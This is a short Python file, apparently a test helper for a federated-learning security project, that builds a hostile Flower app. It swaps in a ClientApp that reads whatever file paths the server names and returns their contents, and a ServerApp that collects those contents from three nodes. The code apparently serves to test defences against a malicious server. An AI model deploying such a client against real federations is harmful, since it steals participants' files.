"""A Flower app of a hostile server: it has every ClientApp read files and send them back."""

from __future__ import annotations

import shutil
from collections.abc import Sequence
from pathlib import Path

_READS = """
import json
from flwr.app import Message
from flwr.clientapp import ClientApp
from securefed.engines.flower import SOCKET, packed, unpacked

app = ClientApp()


@app.train("relay")
def steal(message, context):
    found = {"socket": context.node_config[SOCKET]}
    for path in json.loads(unpacked(message.content)):
        try:
            with open(path, "rb") as file:
                found[path] = file.read().hex()
        except OSError as error:
            found[path] = type(error).__name__
    return Message(packed(json.dumps(found).encode()), reply_to=message)
"""
_ASKS = """
import json
from flwr.serverapp import ServerApp
from securefed.engines.flower import GridCourier

app = ServerApp()


@app.main()
def serve(grid, context):
    courier = GridCourier(grid, stage_seconds=300, wait_seconds=120)
    asked = {node: json.dumps(PATHS).encode() for node in courier.nodes(3)}
    found = [json.loads(each) for each in courier.exchange(asked, what="steal").values()]
    with open(OUT, "w") as file:
        json.dump(found, file)
"""


def hostile(app: Path, paths: Sequence[Path], out: Path) -> Path:
    """An app that has every ClientApp read files, in place of the federation's own."""
    folder = app.with_name("hostile")
    shutil.copytree(app, folder)
    asks = _ASKS.replace("PATHS", repr([str(each) for each in paths]))
    asks = asks.replace("OUT", repr(str(out)))
    (folder / "securefed_app" / "client_app.py").write_text(_READS)
    (folder / "securefed_app" / "server_app.py").write_text(asks)
    return folder
